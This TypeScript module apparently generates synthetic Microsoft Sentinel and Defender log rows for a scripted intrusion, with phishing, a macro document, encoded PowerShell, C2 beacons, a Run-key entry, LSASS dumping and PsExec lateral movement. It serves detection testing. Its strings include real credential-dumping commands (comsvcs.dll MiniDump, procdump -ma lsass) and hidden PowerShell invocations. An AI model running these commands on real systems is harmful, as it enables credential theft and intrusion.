/**
 * The attack story: phishing mail and click, a macro document, an encoded PowerShell download cradle, C2 beacons,
 * Run-key persistence, credential dumping, lateral movement with PsExec and a remote logon on a second device, and
 * an impossible-travel sign-in — plus the product alerts Defender would raise (MDO, MDE, Entra ID Protection) as
 * `SecurityAlert` rows. STORIES.md lists every artifact with its offset; keep the two in step.
 */

import { OFFICE_PLACE } from './background.js';
import { ATTACK, EXE, encodedCommand } from './catalog.js';
import { type Device, DNS_DOMAIN, NT_DOMAIN, type User } from './company.js';
import type { Prng } from './prng.js';
import {
  accountOf,
  type Ctx,
  emailRow,
  emailUrlRow,
  fileRow,
  firewallRow,
  logonEventFields,
  logonRow,
  networkRow,
  type ProcessRef,
  processEventFields,
  processRow,
  type Row,
  registryRow,
  type Sink,
  SYSTEM,
  securityEventRow,
  signinRow,
  urlClickRow,
} from './rows.js';

const S = 1000;

export interface StoryInfo {
  readonly index: number;
  readonly startSimMs: number;
  readonly victim: User;
  readonly device: Device;
  readonly target: Device;
  readonly dumpVariant: 'comsvcs' | 'procdump' | 'lsass-access';
  readonly travelIp: string;
}

/** Writes one story's rows (some in the future: the sink holds them until their time). */
export function attackStory(ctx: Ctx, rng: Prng, index: number, t0: number, sink: Sink): StoryInfo {
  const { workstations, byName } = ctx.company;
  const device = rng.pick(workstations);
  const victim = device.user!;
  const acct = accountOf(victim);
  const targetChoice = index % 3;
  let target: Device =
    targetChoice === 0
      ? byName.get('SRV-FILE-01')!
      : targetChoice === 1
        ? byName.get('SRV-SQL-01')!
        : rng.pick(workstations);
  if (target === device) target = byName.get('SRV-FILE-01')!;
  const travel = ATTACK.travel[index % ATTACK.travel.length]!;
  const variant = (['comsvcs', 'procdump', 'lsass-access'] as const)[index % 3]!;
  const push = (table: string, at: number, row: Row) => sink.push(table, at, row);
  const pid = () => rng.int(1000, 30000);

  // 0 s: a normal sign-in from the office, then the phishing mail.
  push(
    'SigninLogs',
    t0,
    signinRow(
      ctx,
      rng,
      t0,
      victim,
      device,
      ['Office 365 Exchange Online', '00000002-0000-0ff1-ce00-000000000000'],
      OFFICE_PLACE,
      { code: '0', description: '' },
    ),
  );
  const messageId = rng.guid();
  const phishUrl = `https://${ATTACK.phishDomain}/benefits/login.php?id=${rng.int(100000, 999999)}`;
  push(
    'EmailEvents',
    t0,
    emailRow(ctx, t0, {
      id: messageId,
      from: ATTACK.phishSender,
      fromDomain: ATTACK.phishDomain,
      fromName: 'Contoso Benefits Team',
      senderIp: ATTACK.phishIp,
      to: victim,
      subject: ATTACK.phishSubject,
      direction: 'Inbound',
      delivery: 'Delivered',
      threatTypes: '',
      urlCount: 1,
      attachmentCount: 0,
    }),
  );
  push('EmailUrlInfo', t0, emailUrlRow(ctx, t0, messageId, phishUrl));

  // 8-10 s: click, browse, download the macro document.
  const tClick = t0 + 8 * S;
  push('UrlClickEvents', tClick, urlClickRow(ctx, tClick, victim, phishUrl, messageId, OFFICE_PLACE.ip));
  const edge: ProcessRef = {
    exe: EXE.msedge,
    commandLine: `"${EXE.msedge.folderPath}" --single-argument ${phishUrl}`,
    pid: pid(),
    createdSimMs: tClick,
  };
  push(
    'DeviceNetworkEvents',
    t0 + 9 * S,
    networkRow(
      ctx,
      t0 + 9 * S,
      device,
      acct,
      edge,
      { ip: ATTACK.phishIp, port: 443, url: ATTACK.phishDomain, internal: false },
      rng.int(49152, 65535),
    ),
  );
  const downloads = `C:\\Users\\${victim.sam}\\Downloads`;
  const docSha = rng.hex(64);
  push(
    'DeviceFileEvents',
    t0 + 10 * S,
    fileRow(ctx, t0 + 10 * S, device, acct, edge, {
      name: ATTACK.docName,
      folder: downloads,
      size: 48_213,
      sha256: docSha,
      originUrl: `https://${ATTACK.phishDomain}/benefits/${ATTACK.docName}`,
      originIp: ATTACK.phishIp,
    }),
  );

  // 20-22 s: Word runs the macro: encoded PowerShell, then the decoded download cradle.
  const tExec = t0 + 20 * S;
  const explorer: ProcessRef = {
    exe: EXE.explorer,
    commandLine: 'C:\\Windows\\Explorer.EXE',
    pid: 4000 + (index % 3000),
    createdSimMs: t0 - 3_600_000,
  };
  const word: ProcessRef = {
    exe: EXE.winword,
    commandLine: `"${EXE.winword.folderPath}" /n "${downloads}\\${ATTACK.docName}" /o ""`,
    pid: pid(),
    createdSimMs: tExec - 2 * S,
  };
  push('DeviceProcessEvents', tExec - 2 * S, processRow(ctx, tExec - 2 * S, device, acct, word, explorer, null));
  const encoded = `powershell.exe -NoP -NonI -W Hidden -Enc ${encodedCommand(ATTACK.cradle)}`;
  const ps1: ProcessRef = { exe: EXE.powershell, commandLine: encoded, pid: pid(), createdSimMs: tExec };
  push('DeviceProcessEvents', tExec, processRow(ctx, tExec, device, acct, ps1, word, EXE.explorer));
  const ps2: ProcessRef = {
    exe: EXE.powershell,
    commandLine: `powershell.exe -NoP -W Hidden -c "${ATTACK.cradle}"`,
    pid: pid(),
    createdSimMs: tExec + S,
  };
  push('DeviceProcessEvents', tExec + S, processRow(ctx, tExec + S, device, acct, ps2, ps1, EXE.winword));

  // 25 s on: C2 over HTTPS, a beacon a minute for ten minutes, also seen by the firewall.
  for (let k = 0; k <= 10; k++) {
    const t = t0 + 25 * S + k * 60 * S + (k === 0 ? 0 : rng.int(-5, 5) * S);
    const port = rng.int(49152, 65535);
    push(
      'DeviceNetworkEvents',
      t,
      networkRow(
        ctx,
        t,
        device,
        acct,
        ps2,
        { ip: ATTACK.c2Ip, port: 443, url: ATTACK.c2Domain, internal: false },
        port,
      ),
    );
    push(
      'CommonSecurityLog',
      t + 30,
      firewallRow(ctx, t + 30, rng, {
        src: device.ip,
        srcPort: port,
        dst: ATTACK.c2Ip,
        dstPort: 443,
        action: 'allow',
        user: `contoso\\${victim.sam}`,
        outbound: true,
        ...(k === 0 ? { url: `${ATTACK.c2Domain}/static/update.ps1` } : {}),
      }),
    );
  }

  // 30 s: persistence in the user's Run key.
  push(
    'DeviceRegistryEvents',
    t0 + 30 * S,
    registryRow(
      ctx,
      t0 + 30 * S,
      device,
      acct,
      ps2,
      `HKEY_CURRENT_USER\\${victim.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
      'OneDriveSync',
      encoded,
    ),
  );

  // 45 s: credential dumping, one of three ways.
  const tDump = t0 + 45 * S;
  if (variant === 'comsvcs') {
    const cmd = 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Windows\\Temp\\dump.bin full';
    const p: ProcessRef = { exe: EXE.rundll32, commandLine: cmd, pid: pid(), createdSimMs: tDump };
    push('DeviceProcessEvents', tDump, processRow(ctx, tDump, device, acct, p, ps2, EXE.powershell, 'High'));
    push(
      'DeviceFileEvents',
      tDump + S,
      fileRow(ctx, tDump + S, device, acct, p, {
        name: 'dump.bin',
        folder: 'C:\\Windows\\Temp',
        size: 52_428_800,
        sha256: rng.hex(64),
      }),
    );
  } else if (variant === 'procdump') {
    const drop: ProcessRef = ps2;
    push(
      'DeviceFileEvents',
      tDump - 3 * S,
      fileRow(ctx, tDump - 3 * S, device, acct, drop, {
        name: EXE.procdump.fileName,
        folder: 'C:\\Users\\Public',
        size: EXE.procdump.size,
        sha256: EXE.procdump.sha256,
        originUrl: `https://${ATTACK.c2Domain}/static/pd.bin`,
        originIp: ATTACK.c2Ip,
      }),
    );
    const cmd = 'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp';
    const p: ProcessRef = { exe: EXE.procdump, commandLine: cmd, pid: pid(), createdSimMs: tDump };
    push('DeviceProcessEvents', tDump, processRow(ctx, tDump, device, acct, p, ps2, EXE.powershell, 'High'));
    push(
      'DeviceFileEvents',
      tDump + S,
      fileRow(ctx, tDump + S, device, acct, p, {
        name: 'lsass.dmp',
        folder: 'C:\\Windows\\Temp',
        size: 48_234_496,
        sha256: rng.hex(64),
      }),
    );
  } else {
    push('DeviceEvents', tDump, {
      Timestamp: ctx.time(tDump),
      DeviceId: device.id,
      DeviceName: device.name,
      ActionType: 'OpenProcessApiCall',
      FileName: EXE.lsass.fileName,
      FolderPath: EXE.lsass.folderPath,
      SHA1: EXE.lsass.sha1,
      SHA256: EXE.lsass.sha256,
      MD5: EXE.lsass.md5,
      ProcessId: 684,
      AccountDomain: acct.domain,
      AccountName: acct.name,
      AccountSid: acct.sid,
      InitiatingProcessFileName: ps2.exe.fileName,
      InitiatingProcessFolderPath: ps2.exe.folderPath,
      InitiatingProcessId: ps2.pid,
      InitiatingProcessCommandLine: ps2.commandLine,
      InitiatingProcessCreationTime: ctx.time(ps2.createdSimMs),
      InitiatingProcessSHA256: ps2.exe.sha256,
      InitiatingProcessAccountDomain: acct.domain,
      InitiatingProcessAccountName: acct.name,
      InitiatingProcessAccountSid: acct.sid,
      InitiatingProcessAccountUpn: acct.upn,
      InitiatingProcessAccountObjectId: acct.objectId,
      InitiatingProcessParentFileName: EXE.powershell.fileName,
      AdditionalFields: JSON.stringify({ DesiredAccess: 0x1010, TargetProcessId: 684 }),
      ReportId: ctx.reportId(),
    });
  }

  // 60-62 s: PsExec to the second device; a network logon there; PSEXESVC runs cmd.
  const tLat = t0 + 60 * S;
  const targetShort = target.shortName.toLowerCase();
  const psexecCmd = `PsExec64.exe -accepteula \\\\${targetShort} -s cmd.exe /c "whoami & ipconfig /all"`;
  const psexec: ProcessRef = { exe: EXE.psexec, commandLine: psexecCmd, pid: pid(), createdSimMs: tLat };
  push('DeviceProcessEvents', tLat, processRow(ctx, tLat, device, acct, psexec, ps2, EXE.powershell, 'High'));
  push(
    'DeviceNetworkEvents',
    tLat + 200,
    networkRow(
      ctx,
      tLat + 200,
      device,
      acct,
      psexec,
      { ip: target.ip, port: 445, url: null, internal: true },
      rng.int(49152, 65535),
    ),
  );
  const tLogon = tLat + S;
  push(
    'DeviceLogonEvents',
    tLogon,
    logonRow(
      ctx,
      tLogon,
      target,
      acct,
      'Network',
      true,
      { device: device.name, ip: device.ip, port: rng.int(49152, 65535) },
      'NTLM',
    ),
  );
  const svc: ProcessRef = {
    exe: EXE.psexesvc,
    commandLine: 'C:\\Windows\\PSEXESVC.exe',
    pid: pid(),
    createdSimMs: tLogon + S,
  };
  const services: ProcessRef = {
    exe: EXE.services,
    commandLine: 'C:\\Windows\\system32\\services.exe',
    pid: 640,
    createdSimMs: -86_400_000,
  };
  push('DeviceProcessEvents', tLogon + S, processRow(ctx, tLogon + S, target, SYSTEM, svc, services, null, 'System'));
  const remoteCmd = 'cmd.exe /c "whoami & ipconfig /all"';
  const cmd: ProcessRef = { exe: EXE.cmd, commandLine: remoteCmd, pid: pid(), createdSimMs: tLogon + S + 300 };
  push(
    'DeviceProcessEvents',
    tLogon + S + 300,
    processRow(ctx, tLogon + S + 300, target, SYSTEM, cmd, svc, EXE.services, 'System'),
  );
  if (target.kind === 'server') {
    push(
      'SecurityEvent',
      tLogon,
      securityEventRow(
        ctx,
        tLogon,
        target,
        4624,
        logonEventFields(acct, 3, { ip: device.ip, workstation: device.shortName }, true, 'NTLM'),
      ),
    );
    push(
      'SecurityEvent',
      tLogon + S,
      securityEventRow(
        ctx,
        tLogon + S,
        target,
        4688,
        processEventFields(SYSTEM, EXE.psexesvc, 'C:\\Windows\\PSEXESVC.exe', EXE.services),
      ),
    );
    push(
      'SecurityEvent',
      tLogon + S + 300,
      securityEventRow(
        ctx,
        tLogon + S + 300,
        target,
        4688,
        processEventFields(SYSTEM, EXE.cmd, remoteCmd, EXE.psexesvc),
      ),
    );
  }

  // 90 s: the same user signs in from another continent.
  const tTravel = t0 + 90 * S;
  push(
    'SigninLogs',
    tTravel,
    signinRow(
      ctx,
      rng,
      tTravel,
      victim,
      null,
      ['Office 365 Exchange Online', '00000002-0000-0ff1-ce00-000000000000'],
      travel,
      { code: '0', description: '' },
      {
        level: 'high',
        events: ['impossibleTravel', 'unfamiliarFeatures'],
        state: 'atRisk',
        userAgent: 'python-requests/2.31.0',
      },
    ),
  );

  // Product alerts.
  const hostEntity = {
    Type: 'host',
    HostName: device.shortName.toLowerCase(),
    DnsDomain: DNS_DOMAIN,
    NetBiosName: device.shortName,
    OSFamily: 'Windows',
    OSVersion: device.os,
    MdatpDeviceId: device.id,
    FQDN: device.name,
  };
  const accountEntity = {
    Type: 'account',
    Name: victim.sam,
    NTDomain: NT_DOMAIN,
    UPNSuffix: 'contoso.com',
    Sid: victim.sid,
    AadUserId: victim.objectId,
    IsDomainJoined: true,
    DisplayName: victim.displayName,
  };
  push(
    'SecurityAlert',
    t0 + 12 * S,
    productAlert(ctx, rng, t0 + 12 * S, {
      product: 'mdo',
      name: 'A potentially malicious URL click was detected',
      severity: 'Medium',
      description: `${victim.displayName} clicked a URL in an email from ${ATTACK.phishSender} that was later found to be malicious.`,
      tactics: ['InitialAccess'],
      techniques: ['T1566'],
      subTechniques: ['T1566.002'],
      compromised: victim.upn,
      start: t0,
      end: tClick,
      entities: [
        accountEntity,
        {
          Type: 'mailbox',
          MailboxPrimaryAddress: victim.upn,
          DisplayName: victim.displayName,
          Upn: victim.upn,
          AadId: victim.objectId,
        },
        { Type: 'url', Url: phishUrl },
        {
          Type: 'mail-message',
          Recipient: victim.upn,
          Sender: ATTACK.phishSender,
          P1Sender: ATTACK.phishSender,
          SenderIP: ATTACK.phishIp,
          Subject: ATTACK.phishSubject,
          NetworkMessageId: messageId,
          Urls: [phishUrl],
        },
      ],
    }),
  );
  push(
    'SecurityAlert',
    tExec + 2 * S,
    productAlert(ctx, rng, tExec + 2 * S, {
      product: 'mde',
      name: 'Suspicious PowerShell command line',
      severity: 'Medium',
      description:
        'A suspicious PowerShell command line was launched by a Microsoft Word document. The command downloads and runs a script from the internet.',
      tactics: ['Execution'],
      techniques: ['T1059'],
      subTechniques: ['T1059.001'],
      compromised: device.name,
      start: tExec,
      end: tExec + S,
      entities: [
        hostEntity,
        accountEntity,
        {
          Type: 'process',
          ProcessId: String(ps1.pid),
          CommandLine: encoded,
          CreationTimeUtc: ctx.time(tExec),
          ImageFile: {
            Type: 'file',
            Directory: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
            Name: 'powershell.exe',
            FileHashes: [{ Type: 'filehash', Algorithm: 'SHA256', Value: EXE.powershell.sha256 }],
          },
          Account: { $ref: 'account' },
          Host: { $ref: 'host' },
        },
        { Type: 'ip', Address: ATTACK.c2Ip },
      ],
    }),
  );
  push(
    'SecurityAlert',
    tDump + 2 * S,
    productAlert(ctx, rng, tDump + 2 * S, {
      product: 'mde',
      name:
        variant === 'procdump'
          ? 'Malicious credential theft tool execution detected'
          : 'Suspicious access to LSASS service',
      severity: 'High',
      description: `A process accessed the memory of lsass.exe on ${device.shortName}; attackers do this to obtain credentials of users signed in to the device.`,
      tactics: ['CredentialAccess'],
      techniques: ['T1003'],
      subTechniques: ['T1003.001'],
      compromised: device.name,
      start: tDump,
      end: tDump + S,
      entities: [hostEntity, accountEntity, { Type: 'file', Directory: 'C:\\Windows\\System32', Name: 'lsass.exe' }],
    }),
  );
  push(
    'SecurityAlert',
    tTravel + 5 * S,
    productAlert(ctx, rng, tTravel + 5 * S, {
      product: 'ipc',
      name: 'Atypical travel',
      severity: 'Medium',
      description: `Sign-in from ${travel.city}, ${travel.country} shortly after a sign-in from Seattle, US: the two locations are too far apart for the time between them.`,
      tactics: ['InitialAccess'],
      techniques: ['T1078'],
      subTechniques: [],
      compromised: victim.upn,
      start: t0,
      end: tTravel,
      entities: [
        accountEntity,
        {
          Type: 'ip',
          Address: travel.ip,
          Location: {
            CountryCode: travel.country,
            City: travel.city,
            State: travel.state,
            Latitude: travel.lat,
            Longitude: travel.lon,
          },
        },
      ],
    }),
  );

  return { index, startSimMs: t0, victim, device, target, dumpVariant: variant, travelIp: travel.ip };
}

const PRODUCTS = {
  mde: {
    product: 'Microsoft Defender Advanced Threat Protection',
    provider: 'MDATP',
    component: 'Microsoft Defender for Endpoint',
    link: 'https://security.microsoft.com/alerts/da',
  },
  mdo: {
    product: 'Office 365 Advanced Threat Protection',
    provider: 'OATP',
    component: 'Microsoft Defender for Office 365',
    link: 'https://security.microsoft.com/alerts/fa',
  },
  ipc: {
    product: 'Azure Active Directory Identity Protection',
    provider: 'IPC',
    component: 'Microsoft Entra ID Protection',
    link: 'https://portal.azure.com/#blade/Microsoft_AAD_IAM/IdentityProtectionMenuBlade/RiskDetections?id=',
  },
} as const;

/** A `SecurityAlert` row as Sentinel's Defender XDR connector writes it, entities in Sentinel's `$id`/`$ref` JSON. */
function productAlert(
  ctx: Ctx,
  rng: Prng,
  at: number,
  a: {
    product: keyof typeof PRODUCTS;
    name: string;
    severity: string;
    description: string;
    tactics: readonly string[];
    techniques: readonly string[];
    subTechniques: readonly string[];
    compromised: string;
    start: number;
    end: number;
    entities: readonly Record<string, unknown>[];
  },
): Row {
  const p = PRODUCTS[a.product];
  const vendorId = `${a.product === 'mde' ? 'da' : a.product === 'mdo' ? 'fa' : ''}${rng.hex(18)}_${rng.int(100000000, 999999999)}`;
  return {
    TimeGenerated: ctx.time(at),
    DisplayName: a.name,
    AlertName: a.name,
    AlertSeverity: a.severity,
    Description: a.description,
    ProviderName: p.provider,
    VendorName: 'Microsoft',
    VendorOriginalId: vendorId,
    SystemAlertId: rng.guid(),
    ProductName: p.product,
    ProductComponentName: p.component,
    AlertType: `${p.provider}_${a.name.replace(/[^A-Za-z]+/g, '')}`,
    ConfidenceLevel: 'Unknown',
    StartTime: ctx.time(a.start),
    EndTime: ctx.time(a.end),
    ProcessingEndTime: ctx.time(at),
    Status: 'New',
    IsIncident: false,
    Tactics: a.tactics.join(', '),
    Techniques: JSON.stringify(a.techniques),
    SubTechniques: JSON.stringify(a.subTechniques),
    CompromisedEntity: a.compromised,
    AlertLink: `${p.link}${vendorId}`,
    RemediationSteps: JSON.stringify([
      'Review the alert in the Microsoft Defender portal.',
      'Isolate the device or reset the account if the activity is confirmed.',
    ]),
    ExtendedProperties: JSON.stringify({ MicrosoftDefenderXdrIncident: 'true', 'Detection source': p.component }),
    Entities: entitiesJson(a.entities),
  };
}

/** Numbers entities with `$id` and resolves `{$ref: 'host' | 'account'}` to the first entity of that type. */
function entitiesJson(entities: readonly Record<string, unknown>[]): string {
  let next = 2;
  const ids = new Map<string, string>();
  const walk = (e: Record<string, unknown>): Record<string, unknown> => {
    const id = String(next++);
    const out: Record<string, unknown> = { $id: id };
    for (const [k, v] of Object.entries(e)) {
      if (v && typeof v === 'object' && !Array.isArray(v) && '$ref' in v) {
        const ref = ids.get(String((v as { $ref: unknown }).$ref));
        if (ref) out[k] = { $ref: ref };
      } else if (v && typeof v === 'object' && !Array.isArray(v) && 'Type' in v)
        out[k] = walk(v as Record<string, unknown>);
      else if (Array.isArray(v))
        out[k] = v.map((x) => (x && typeof x === 'object' && 'Type' in x ? walk(x as Record<string, unknown>) : x));
      else out[k] = v;
    }
    if (typeof e.Type === 'string' && !ids.has(e.Type)) ids.set(e.Type, id);
    return out;
  };
  return JSON.stringify(entities.map(walk));
}
